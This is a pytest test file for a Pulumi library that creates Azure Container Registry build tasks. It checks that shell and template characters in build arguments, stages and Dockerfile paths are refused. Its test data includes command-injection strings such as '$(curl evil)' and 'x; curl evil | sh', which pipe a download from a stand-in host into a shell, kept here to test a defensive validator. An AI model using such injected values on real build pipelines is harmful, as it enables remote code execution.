"""What becomes part of the line of a Docker build, which a shell and a template read without quotes."""

from typing import Any, cast

import pulumi
import pytest
from acr_patterns import ArgumentError
from acr_patterns.testing import SimulatedAzure, simulate
from build_tasks import building, task

CANARY = "correct-horse"


@pytest.mark.parametrize(
    ("argument", "wrapped"),
    [
        ("build_arguments", str),
        ("build_arguments", pulumi.Output.from_input),
        ("secret_build_arguments", str),
        ("secret_build_arguments", pulumi.Output.from_input),
        ("secret_build_arguments", pulumi.Output.secret),
    ],
)
@pytest.mark.parametrize(
    "text",
    [*(f"{CANARY}{sign}x" for sign in "$`'\"\\;&|<>(){}[]*?!#~^ \n\t"), "{{ nope", "$(curl evil)", f"{CANARY}\n"],
)
def test_a_value_that_a_shell_or_a_template_reads_is_refused_and_not_shown(
    argument: str, text: str, wrapped: Any
) -> None:
    azure = SimulatedAzure()
    with pytest.raises(
        ArgumentError, match=rf"'api': {argument} A has a character .*; .*build with `steps`"
    ) as refused:
        simulate(building(**cast(Any, {argument: lambda: {"A": wrapped(text)}})), azure=azure)
    assert CANARY not in str(refused.value)
    assert "curl" not in str(refused.value)
    assert not azure.of_type("Microsoft.ContainerRegistry/registries/tasks")


def test_a_value_without_such_characters_is_sent_as_it_is() -> None:
    text = "https://mirror.contoso.com:8443/npm/@scope,a=1.2_3-x+%20"
    arguments = task(simulate(building(build_arguments={"A": text, "B": ""})))["step"]["arguments"]
    assert [one["value"] for one in arguments] == [text, ""]


@pytest.mark.parametrize(
    "target", ["x; curl evil | sh\n", "x -t evil/other:latest", "-x", "", "x\n", "{{.Run.ID}}", "$ID"]
)
def test_what_is_no_stage_is_refused(target: str) -> None:
    with pytest.raises(ArgumentError, match=r"'api': target .* cannot be the stage of a Dockerfile"):
        simulate(building(target=target))


@pytest.mark.parametrize("dockerfile", ["--privileged", "-f", "a Dockerfile", "Dockerfile -t evil"])
def test_a_dockerfile_that_is_an_option_or_several_words_is_refused(dockerfile: str) -> None:
    with pytest.raises(ArgumentError, match=r"'api': dockerfile .* not - first, without spaces"):
        simulate(building(dockerfile=dockerfile))


def test_a_stage_and_a_dockerfile_are_sent_as_they_are() -> None:
    step = task(simulate(building(target="build-1.a_b", dockerfile="docker/Dockerfile-x.prod")))["step"]
    assert (step["target"], step["dockerFilePath"]) == ("build-1.a_b", "docker/Dockerfile-x.prod")


@pytest.mark.parametrize(
    "arguments",
    [
        {"repository": "library/shop"},
        {"repository": None, "task_file": {"path": "a.yaml", "repositories": ["library/shop"]}},
        {"repository": None, "steps": [{"build": {"images": ["library/shop:1"]}}]},
    ],
)
def test_a_repository_that_acr_tasks_takes_for_docker_hubs_is_refused(arguments: dict[str, Any]) -> None:
    with pytest.raises(ArgumentError, match=r"is in library/, where Docker Hub keeps its official images"):
        simulate(building(**arguments))


def test_a_repository_called_library_is_taken() -> None:
    assert task(simulate(building(repository="library")))["step"]["imageNames"][0].startswith("library:")
